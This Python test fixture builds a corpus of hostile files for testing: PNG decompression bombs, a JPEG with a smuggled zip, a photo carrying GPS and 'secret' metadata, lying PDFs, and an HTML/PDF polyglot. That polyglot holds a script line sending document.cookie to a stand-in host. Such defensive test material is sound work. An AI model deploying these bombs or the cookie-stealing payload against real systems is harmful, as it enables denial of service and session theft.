"""A bomb and malformed-file corpus, generated on the fly (nothing large is committed): each
file is built directly (PNG chunks, PDF objects) so even the bombs cost milliseconds."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image

from tests.dossier_support import jpeg, pdf


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(width: int, height: int) -> bytes:
    """A valid 1-bit black PNG of any size: 13,000 × 13,000 is about 20 KB on disk."""
    row = b"\0" * (1 + (width + 7) // 8)  # filter byte + packed pixels
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", body)
            + _chunk(b"IEND", b""))


def jpeg_with_zip() -> bytes:
    """A real photo with a zip archive appended (a classic way to smuggle files)."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("payload.txt", "SMUGGLED " * 100)
    return jpeg(42) + archive.getvalue()


def jpeg_with_gps(orientation: int = 1, size: tuple[int, int] = (900, 1200)) -> bytes:
    """A photo carrying a GPS position, a comment and an EXIF orientation."""
    img = Image.new("RGB", size, (200, 30, 30))
    img.paste((20, 20, 220), (0, 0, size[0] // 2, size[1] // 4))  # a corner to find
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "PhoneMaker"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (21.0, 50.0, 12.5)  # latitude of Hàm Yên
    gps[3], gps[4] = "E", (105.0, 2.0, 30.0)
    out = io.BytesIO()
    img.save(out, "JPEG", exif=exif, comment=b"HOME-ADDRESS-SECRET")
    return out.getvalue()


def html_as_pdf() -> bytes:
    """An HTML page with a PDF tacked on: PDF readers accept it, browsers run the script."""
    return b"<html><script>fetch('http://x/'+document.cookie)</script></html>\n" + pdf(1)


def pdf_pages(pages: int, *, declared: int | None = None) -> bytes:
    """A minimal valid PDF of blank pages, built by hand (10,000 pages in a few ms);
    ``declared``: the /Count its catalogue states, if it should lie."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    kids = " ".join(f"{n + 3} 0 R" for n in range(pages)).encode()
    count = pages if declared is None else declared
    objects.append(b"<< /Type /Pages /Kids [" + kids + b"] /Count " + str(count).encode() + b" >>")
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] * pages
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, xref))
    return out.getvalue()


def truncated(data: bytes, keep: float = 0.5) -> bytes:
    return data[: int(len(data) * keep)]
